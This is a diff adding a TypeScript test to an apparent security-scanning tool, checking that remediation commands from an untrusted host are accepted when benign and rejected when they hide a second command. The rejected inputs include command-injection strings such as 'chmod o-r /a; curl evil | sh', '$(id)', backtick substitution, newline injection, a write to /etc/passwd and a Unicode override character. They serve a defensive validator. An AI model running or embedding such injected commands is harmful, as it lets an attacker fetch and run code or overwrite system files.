@@ -59,3 +59,27 @@ test("of a model that is in no register nobody knows whether it is declared", ()
   const found = told(scanOf(["/srv/acme/m.gguf"], { digest: "d".repeat(64), name: "acme" }));
   assert.deepEqual(found, { name: undefined, class: undefined, declared: [undefined] });
 });
+
+test("a host that lies brings no fix in which another command hides", () => {
+  const fixOf = (fix: string) => {
+    const path = { model: "m", steps: [], fix };
+    return registeredScan({ ...scanOf(["/a"]), paths: [path], models: [] }, register).paths[0]?.fix;
+  };
+  for (const it of [
+    "chmod o-r '/srv/it'\\''s; here'",
+    "sed -i '5a deny all;' /etc/nginx/a && nginx -s reload",
+    "chmod u-s /usr/bin/find",
+  ])
+    assert.equal(fixOf(it), it);
+  for (const it of [
+    "chmod o-r /a; curl evil | sh",
+    "echo `id`",
+    "echo $(id)",
+    "chmod o-r /a\nid",
+    "a & b",
+    "a > /etc/passwd",
+    "a ' ; id",
+    "chmod '\u202e'",
+  ])
+    assert.equal(fixOf(it), undefined, it);
+});
